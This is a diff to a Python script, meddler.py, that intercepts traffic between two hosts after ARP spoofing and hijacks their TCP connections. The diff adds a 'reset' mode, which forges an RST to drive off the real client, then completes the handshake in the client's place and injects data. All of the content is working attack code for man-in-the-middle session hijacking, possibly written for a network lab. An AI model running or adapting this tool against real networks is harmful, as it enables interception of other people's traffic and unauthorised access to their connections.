@@ -2,12 +2,14 @@
 """A pod on a bridge to which others send by mistake, since it has forged their ARP: meddler.py MODE ADDRESS=MAC ADDRESS=MAC PORT.
 
 relay: hand on to the two what each sends to the other. answer: hand on the first one's SYN; answer the second one's SYN-ACK in
-the first one's place, and say something. A line on stdout for each SYN, SYN-ACK, and packet with data that it sees."""
+the first one's place, and say something. reset: the same, a second after it has sent the first one away. A line on stdout for
+each SYN, SYN-ACK, and packet with data that it sees."""
 import socket
 import struct
 import sys
+import time
 
-ETH, SYN, PSH, ACK = 14, 0x02, 0x08, 0x10
+ETH, SYN, RST, PSH, ACK = 14, 0x02, 0x04, 0x08, 0x10
 SAYS = b"let me in\n"
 
 
@@ -65,6 +67,9 @@ def main():
         if mode == "relay" or (flags & (SYN | ACK) == SYN and dst == server):
             send(packet)
         elif flags & SYN and src == server:
+            if mode == "reset":
+                send(segment(src, dst, (sport, dport), (seq, ack), RST | ACK))
+                time.sleep(1)
             send(segment(dst, src, (dport, sport), (ack, seq + 1), ACK))
             send(segment(dst, src, (dport, sport), (ack, seq + 1), ACK | PSH, SAYS))
 
